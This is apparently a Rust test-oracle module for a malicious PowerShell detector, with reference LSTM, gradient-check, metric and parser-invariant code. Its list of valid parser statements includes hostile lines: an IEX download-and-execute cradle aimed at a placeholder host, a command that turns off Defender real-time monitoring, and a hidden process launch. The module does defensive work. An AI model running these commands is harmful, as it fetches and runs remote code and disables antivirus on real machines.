//! Independent reference implementations used as test oracles.
#![allow(dead_code)]

use std::collections::HashMap;

use psdetect::dataset::{build_vocab_on, documents_from_scripts, encode_documents, TokenMode};
use psdetect::eval::ConfusionMatrix;
use psdetect::nn::{Classifier, Example, ModelConfig};
use psdetect::par::Execution;
use psdetect::synth::{generate, GeneratorSpec};
use psdetect::tokenizer::{Stoplist, TokenSequence, DEFAULT_CAP, DEFAULT_MAX_LEN};
use psdetect::Label;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

pub const FD_EPSILON: f64 = 1e-4;
/// Denominator floor for relative error, so entries whose true gradient is
/// numerically zero are judged on absolute error.
pub const FD_FLOOR: f64 = 1e-6;

pub fn golden(name: &str) -> String {
    let path = format!("{}/tests/golden/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn sig(x: f64) -> f64 {
    1.0 / (1.0 + (-x).exp())
}

type Mat = Vec<Vec<f64>>;

fn to_mat(dims: &[usize], data: &[f64]) -> Mat {
    data.chunks(dims[1]).map(<[f64]>::to_vec).collect()
}

fn mv(m: &Mat, x: &[f64]) -> Vec<f64> {
    m.iter()
        .map(|row| row.iter().zip(x).map(|(a, b)| a * b).sum())
        .collect()
}

/// Cell parameters pulled out of the model by tensor name.
pub struct RefCell {
    pub w: HashMap<char, Mat>,
    pub u: HashMap<char, Mat>,
    pub b: HashMap<char, Vec<f64>>,
}

impl RefCell {
    pub fn from_model(model: &Classifier, prefix: &str) -> Self {
        let named: HashMap<String, (Vec<usize>, Vec<f64>)> = model
            .tensors()
            .into_iter()
            .map(|(n, d, s)| (n, (d, s.to_vec())))
            .collect();
        let mut cell = RefCell {
            w: HashMap::new(),
            u: HashMap::new(),
            b: HashMap::new(),
        };
        for g in ['i', 'g', 'f', 'o'] {
            let (d, s) = &named[&format!("{prefix}.w_x{g}")];
            cell.w.insert(g, to_mat(d, s));
            let (d, s) = &named[&format!("{prefix}.u_h{g}")];
            cell.u.insert(g, to_mat(d, s));
            cell.b.insert(g, named[&format!("{prefix}.b_{g}")].1.clone());
        }
        cell
    }

    fn gate(&self, g: char, x: &[f64], h: &[f64]) -> Vec<f64> {
        let a = mv(&self.w[&g], x);
        let r = mv(&self.u[&g], h);
        (0..a.len()).map(|k| a[k] + r[k] + self.b[&g][k]).collect()
    }

    /// One step written straight from the gate equations.
    pub fn step(&self, x: &[f64], h: &[f64], c: &[f64]) -> (Vec<f64>, Vec<f64>) {
        let i: Vec<f64> = self.gate('i', x, h).into_iter().map(sig).collect();
        let g: Vec<f64> = self.gate('g', x, h).into_iter().map(f64::tanh).collect();
        let f: Vec<f64> = self.gate('f', x, h).into_iter().map(sig).collect();
        let o: Vec<f64> = self.gate('o', x, h).into_iter().map(sig).collect();
        let c2: Vec<f64> = (0..c.len()).map(|k| f[k] * c[k] + i[k] * g[k]).collect();
        let h2: Vec<f64> = (0..c.len()).map(|k| c2[k].tanh() * o[k]).collect();
        (h2, c2)
    }

    pub fn run(&self, xs: &[Vec<f64>], hidden: usize) -> Vec<f64> {
        let (mut h, mut c) = (vec![0.0; hidden], vec![0.0; hidden]);
        for x in xs {
            (h, c) = self.step(x, &h, &c);
        }
        h
    }
}

/// Inference-mode probability computed without the library's kernels.
pub fn reference_predict(model: &Classifier, seq: &TokenSequence) -> f64 {
    let cfg = &model.config;
    let xs: Vec<Vec<f64>> = seq
        .ids
        .iter()
        .filter(|&&id| id != 0)
        .map(|&id| model.embedding.row(id as usize).to_vec())
        .collect();
    let mut feature = RefCell::from_model(model, "fwd").run(&xs, cfg.hidden_dim);
    if cfg.bidirectional {
        let rev: Vec<Vec<f64>> = xs.iter().rev().cloned().collect();
        feature.extend(RefCell::from_model(model, "bwd").run(&rev, cfg.hidden_dim));
    }
    let w = &model.weights;
    let dense = to_mat(
        &[w.dense_weights.rows(), w.dense_weights.cols()],
        w.dense_weights.as_slice(),
    );
    let hidden: Vec<f64> = mv(&dense, &feature)
        .iter()
        .zip(&w.dense_bias)
        .map(|(a, b)| (a + b).max(0.0))
        .collect();
    let z: f64 = hidden.iter().zip(&w.output_weights).map(|(a, b)| a * b).sum::<f64>() + w.output_bias[0];
    sig(z)
}

/// Small model with every parameter uniform in `[-scale, scale]`.
pub fn random_model(config: ModelConfig, seed: u64, scale: f64) -> Classifier {
    let mut model = Classifier::zeros(config).unwrap();
    let mut rng = ChaCha8Rng::seed_from_u64(seed);
    for slice in model.slices_mut() {
        for v in slice.iter_mut() {
            *v = rng.random_range(-scale..=scale);
        }
    }
    model
}

pub fn random_sequence(rng: &mut ChaCha8Rng, vocab_size: usize, max_len: usize) -> TokenSequence {
    let len = rng.random_range(0..=max_len);
    let mut ids: Vec<u32> = (0..len).map(|_| rng.random_range(1..vocab_size as u32 + 2)).collect();
    ids.resize(max_len, 0);
    TokenSequence { ids, true_len: len }
}

pub struct GradCheck {
    pub max_rel_error: f64,
    pub worst: String,
    pub checked: usize,
}

/// Compares analytic gradients of the mean batch loss with central
/// differences, entry by entry over every tensor.
pub fn gradient_check(model: &Classifier, batch: &[Example], dropout_seed: Option<u64>) -> GradCheck {
    let analytic = model
        .gradients(batch, dropout_seed, Execution::Sequential)
        .unwrap()
        .grads;
    let embed_dim = model.config.embed_dim;
    let weight_grads: Vec<Vec<f64>> = analytic
        .weights
        .tensors()
        .into_iter()
        .map(|(_, _, s)| s.to_vec())
        .collect();
    let names: Vec<String> = model.tensors().into_iter().map(|(n, _, _)| n).collect();
    let sizes: Vec<usize> = model.tensors().iter().map(|(_, _, s)| s.len()).collect();
    let loss = |m: &Classifier| m.loss(batch, dropout_seed, Execution::Sequential).unwrap();
    let mut out = GradCheck {
        max_rel_error: 0.0,
        worst: String::new(),
        checked: 0,
    };
    for (k, &size) in sizes.iter().enumerate() {
        for j in 0..size {
            let a = if k == 0 {
                analytic
                    .embedding
                    .get(&((j / embed_dim) as u32))
                    .map_or(0.0, |row| row[j % embed_dim])
            } else {
                weight_grads[k - 1][j]
            };
            let mut plus = model.clone();
            plus.slices_mut()[k][j] += FD_EPSILON;
            let mut minus = model.clone();
            minus.slices_mut()[k][j] -= FD_EPSILON;
            let n = (loss(&plus) - loss(&minus)) / (2.0 * FD_EPSILON);
            let rel = (a - n).abs() / a.abs().max(n.abs()).max(FD_FLOOR);
            out.checked += 1;
            if rel > out.max_rel_error {
                out.max_rel_error = rel;
                out.worst = format!("{}[{j}]: analytic {a:e}, numeric {n:e}", names[k]);
            }
        }
    }
    out
}

/// The gradient-check configuration: hidden 3, embedding 2, length 5.
pub fn gradient_check_config(seed: u64) -> (ModelConfig, u64) {
    let mut rng = ChaCha8Rng::seed_from_u64(seed ^ 0x5eed);
    let config = ModelConfig {
        vocab_size: rng.random_range(3..=6),
        embed_dim: 2,
        hidden_dim: 3,
        dense_dim: rng.random_range(2..=4),
        dropout: if rng.random_bool(0.5) { 0.5 } else { 0.0 },
        bidirectional: rng.random_bool(0.5),
        max_len: 5,
    };
    (config, rng.random())
}

pub fn gradient_check_run(seed: u64) -> GradCheck {
    let (config, sub) = gradient_check_config(seed);
    let model = random_model(config.clone(), sub, 1.0);
    let mut rng = ChaCha8Rng::seed_from_u64(sub);
    let batch: Vec<Example> = (0..3)
        .map(|i| Example {
            id: format!("g{i}"),
            seq: random_sequence(&mut rng, config.vocab_size, config.max_len),
            label: if rng.random_bool(0.5) {
                Label::Malicious
            } else {
                Label::Benign
            },
        })
        .collect();
    let dropout_seed = (config.dropout > 0.0).then_some(sub);
    gradient_check(&model, &batch, dropout_seed)
}

/// Confusion counts straight from the definition.
pub fn brute_force_confusion(preds: &[f64], labels: &[Label], threshold: f64) -> ConfusionMatrix {
    let count = |pos: bool, mal: bool| {
        preds
            .iter()
            .zip(labels)
            .filter(|(p, l)| (**p >= threshold) == pos && (**l == Label::Malicious) == mal)
            .count()
    };
    ConfusionMatrix {
        tp: count(true, true),
        fp: count(true, false),
        fn_: count(false, true),
        tn: count(false, false),
    }
}

/// (accuracy, precision, recall, f1) with `None` for zero denominators.
pub fn brute_force_metrics(preds: &[f64], labels: &[Label], threshold: f64) -> [Option<f64>; 4] {
    let n = preds.len() as f64;
    let predicted: Vec<bool> = preds.iter().map(|&p| p >= threshold).collect();
    let actual: Vec<bool> = labels.iter().map(|&l| l == Label::Malicious).collect();
    let correct = predicted.iter().zip(&actual).filter(|(p, a)| p == a).count() as f64;
    let pred_pos = predicted.iter().filter(|&&p| p).count() as f64;
    let act_pos = actual.iter().filter(|&&a| a).count() as f64;
    let hits = predicted.iter().zip(&actual).filter(|(p, a)| **p && **a).count() as f64;
    let accuracy = (n > 0.0).then(|| correct / n);
    let precision = (pred_pos > 0.0).then(|| hits / pred_pos);
    let recall = (act_pos > 0.0).then(|| hits / act_pos);
    let f1 = match (precision, recall) {
        (Some(p), Some(r)) if p + r > 0.0 => Some(2.0 * p * r / (p + r)),
        _ => None,
    };
    [accuracy, precision, recall, f1]
}

/// The seeded 40-script corpus (20 per label) encoded with the default cap,
/// stoplist and sequence length.
pub fn desk_corpus(seed: u64, mode: TokenMode) -> (Vec<Example>, usize) {
    let scripts = generate(&GeneratorSpec::new(seed, 20, 20)).unwrap();
    let docs = documents_from_scripts(&scripts, mode, Execution::Parallel);
    let vocab = build_vocab_on(&docs, None, DEFAULT_CAP, &Stoplist::administration_defaults()).unwrap();
    let examples = encode_documents(&docs, &vocab, DEFAULT_MAX_LEN, Execution::Parallel);
    (examples, vocab.len())
}

/// Structural fingerprint: kinds and texts, no spans.
pub fn shape(node: &psdetect::AstNode) -> String {
    if node.children.is_empty() {
        format!("{}({:?})", node.kind, node.text)
    } else {
        let inner: Vec<String> = node.children.iter().map(shape).collect();
        format!("{}[{}]", node.kind, inner.join(", "))
    }
}

/// Span soundness and containment for every node, plus lexeme ordering and
/// gap content.
pub fn check_parse_invariants(src: &str) -> Result<(), String> {
    let root = psdetect::parse_source(src);
    if root.kind != psdetect::AstKind::ScriptRoot {
        return Err(format!("root is {}", root.kind));
    }
    for (node, _) in root.walk() {
        let span = node.span;
        let slice = src
            .get(span.start..span.end)
            .ok_or_else(|| format!("{} span {span:?} outside source or off a char boundary", node.kind))?;
        if node.kind != psdetect::AstKind::ScriptRoot && slice != node.text {
            return Err(format!("{} text {:?} != source slice {slice:?}", node.kind, node.text));
        }
        for child in &node.children {
            if !span.contains(child.span) {
                return Err(format!(
                    "{} {:?} escapes parent {} {span:?}",
                    child.kind, child.span, node.kind
                ));
            }
        }
        for pair in node.children.windows(2) {
            if pair[0].span.end > pair[1].span.start {
                return Err(format!("siblings overlap: {:?} {:?}", pair[0].span, pair[1].span));
            }
        }
    }
    let lexemes = psdetect::lex(src);
    let mut cursor = 0;
    for l in &lexemes {
        if l.span.start < cursor || l.span.end < l.span.start {
            return Err(format!("lexeme {:?} out of order", l.span));
        }
        let gap = &src[cursor..l.span.start];
        if !gap.chars().all(|c| c.is_whitespace() || c == '`') {
            return Err(format!("non-whitespace gap {gap:?} before {:?}", l.text));
        }
        if &src[l.span.start..l.span.end] != l.text {
            return Err(format!("lexeme text mismatch at {:?}", l.span));
        }
        cursor = l.span.end;
    }
    let tail = &src[cursor..];
    if !tail.chars().all(|c| c.is_whitespace() || c == '`') {
        return Err(format!("unlexed tail {tail:?}"));
    }
    Ok(())
}

/// Single-line statements that parse without errors.
pub const VALID_STATEMENTS: &[&str] = &[
    "ping -c 4 -t 64 uc.edu",
    "IEX (New-Object Net.WebClient).DownloadString('http://a.example.com/x.png')",
    "$w = New-Object System.Net.WebClient",
    "Get-Service | Where-Object { $_.Status -eq 'Running' }",
    "$b = [Convert]::FromBase64String($s)",
    "Write-Output \"done $x\"",
    "if ($a -gt 3) { Stop-Process -Id $a }",
    "foreach ($f in $files) { Remove-Item $f -Force }",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "$n = $n + 1",
    "MsiMake http[:]//a.example.net[:]13405/0CFA042F.Png",
    "Start-Process -FilePath 'x.exe' -WindowStyle Hidden",
];

/// Lines that no grammar rule accepts.
pub const GARBAGE_STATEMENTS: &[&str] = &[") ] junk", "] ] x", "= = =", "\u{1} bad", ") oops ("];

/// Independent ranking: sort distinct tokens by (count desc, token asc).
pub fn reference_ranking(lists: &[Vec<String>], cap: usize, stop: &dyn Fn(&str) -> bool) -> Vec<String> {
    let mut counts: std::collections::BTreeMap<&str, usize> = std::collections::BTreeMap::new();
    for list in lists {
        for t in list {
            *counts.entry(t).or_insert(0) += 1;
        }
    }
    let mut ranked: Vec<(&str, usize)> = counts.into_iter().filter(|(t, _)| !stop(t)).collect();
    // stable sort over lexicographic order keeps ties lexicographic
    ranked.sort_by_key(|&(_, count)| std::cmp::Reverse(count));
    ranked.into_iter().take(cap).map(|(t, _)| t.to_string()).collect()
}

/// Disjoint, covering, per-label balance within one.
pub fn check_kfold_laws(labels: &[Label], k: usize, folds: &[Vec<usize>]) -> Result<(), String> {
    if folds.len() != k {
        return Err(format!("{} folds, expected {k}", folds.len()));
    }
    let mut seen = vec![0usize; labels.len()];
    for fold in folds {
        for &i in fold {
            *seen.get_mut(i).ok_or(format!("index {i} out of range"))? += 1;
        }
    }
    if let Some(i) = seen.iter().position(|&c| c != 1) {
        return Err(format!("index {i} appears {} times", seen[i]));
    }
    for label in Label::ALL {
        let per_fold: Vec<usize> = folds
            .iter()
            .map(|f| f.iter().filter(|&&i| labels[i] == label).count())
            .collect();
        let (lo, hi) = (per_fold.iter().min().unwrap(), per_fold.iter().max().unwrap());
        if hi - lo > 1 {
            return Err(format!("{label:?} counts per fold {per_fold:?}"));
        }
    }
    Ok(())
}

/// Random prediction/label vectors of random length, including empty ones.
pub fn random_scored(rng: &mut ChaCha8Rng) -> (Vec<f64>, Vec<Label>, f64) {
    let n = rng.random_range(0..40);
    let preds = (0..n)
        .map(|_| if rng.random_bool(0.1) { 0.5 } else { rng.random::<f64>() })
        .collect();
    let labels = (0..n)
        .map(|_| {
            if rng.random_bool(0.5) {
                Label::Malicious
            } else {
                Label::Benign
            }
        })
        .collect();
    let threshold = if rng.random_bool(0.5) { 0.5 } else { rng.random() };
    (preds, labels, threshold)
}

pub fn random_labels(rng: &mut ChaCha8Rng, k: usize) -> Vec<Label> {
    let benign = rng.random_range(k..60);
    let malicious = rng.random_range(k..60);
    let mut labels: Vec<Label> = std::iter::repeat_n(Label::Benign, benign)
        .chain(std::iter::repeat_n(Label::Malicious, malicious))
        .collect();
    use rand::seq::SliceRandom;
    labels.shuffle(rng);
    labels
}

/// Entropy written as a sum over distinct symbols, counted with a map.
pub fn reference_entropy(bytes: &[u8]) -> f64 {
    let mut counts: HashMap<u8, f64> = HashMap::new();
    for &b in bytes {
        *counts.entry(b).or_default() += 1.0;
    }
    let n = bytes.len() as f64;
    counts.values().map(|c| (c / n) * (n / c).log2()).sum()
}

/// Mean byte entropy of (benign, malicious) scripts in a synthetic corpus.
pub fn class_entropy_means(spec: &GeneratorSpec) -> (f64, f64) {
    let scripts = generate(spec).unwrap();
    let mean = |label: Label| {
        let values: Vec<f64> = scripts
            .iter()
            .filter(|s| s.label == Some(label))
            .map(|s| reference_entropy(s.text.as_bytes()))
            .collect();
        values.iter().sum::<f64>() / values.len() as f64
    };
    (mean(Label::Benign), mean(Label::Malicious))
}
